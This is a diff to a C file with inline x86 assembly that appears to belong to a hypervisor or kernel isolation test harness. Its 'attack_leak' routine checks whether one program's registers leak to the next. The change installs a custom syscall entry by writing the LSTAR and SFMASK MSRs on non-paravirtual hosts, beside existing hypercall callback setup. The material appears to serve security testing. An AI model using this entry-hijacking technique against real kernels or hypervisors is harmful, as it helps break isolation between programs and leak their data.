@@ -7,7 +7,8 @@
  *   seed=N       words are made of this: leak.py makes them as well, of as many as there are programs=N
  *   bases=0      this host does not know of WRFSBASE, and keeps no bases apart
  *   careless=1   the kernel hands one program's registers to the next: to be seen
- *   sites=1      with direct=1: each leaves by a SYSCALL that needs no signal; then leak.py sends signals to who waits
+ *   sites=1      with direct=1, or pv=off: each leaves by a SYSCALL that needs no signal; then leak.py sends signals to
+ * who waits
  */
 #include "escape.h"
 
@@ -176,9 +177,16 @@ __asm__(".text\n"
 	"push %rax\n\t"
 	"mov leak_return(%rip), %eax\n\t"
 	"call pvg_hypercall_page\n"
-	"1:\tud2\n");
-extern const char leak_page[], leak_place[], leak_entry[];
-uint32_t leak_return = R3_HC_iret; /* not static: the code above names it */
+	"1:\tud2\n"
+	"leak_bare_entry:\n\t"
+	"cmp $0x1eafe, %eax\n\t"
+	"je 1f\n\t"
+	"sysretq\n"
+	"1:\tlea leak_stack + 4096(%rip), %rsp\n\t"
+	"ud2\n");
+extern const char leak_page[], leak_place[], leak_entry[], leak_bare_entry[];
+uint8_t leak_stack[4096] __attribute__((aligned(16))); /* not static either */
+uint32_t leak_return = R3_HC_iret;		       /* not static: the code above names it */
 
 static void call_place(uint64_t number, uint64_t word)
 {
@@ -274,9 +282,12 @@ void attack_leak(void)
 	const bool sites = number("sites", 0);
 
 	begin();
-	if (sites) {
+	if (sites && pvg_is_paravirt()) {
 		pvg_assert(!pvg_hypercall2(R3_HC_set_callback, R3_CALLBACK_SITES, 1));
 		pvg_assert(!pvg_hypercall2(R3_HC_set_callback, R3_CALLBACK_SYSCALL, (uint64_t)leak_entry));
+	} else if (sites) {
+		pvg_wrmsr(X86_MSR_SFMASK, X86_RFLAGS_IF);
+		pvg_wrmsr(X86_MSR_LSTAR, (uint64_t)leak_bare_entry);
 	}
 	for (uint64_t i = 0; i < programs; i++)
 		begin_program(&spaces[i], i);
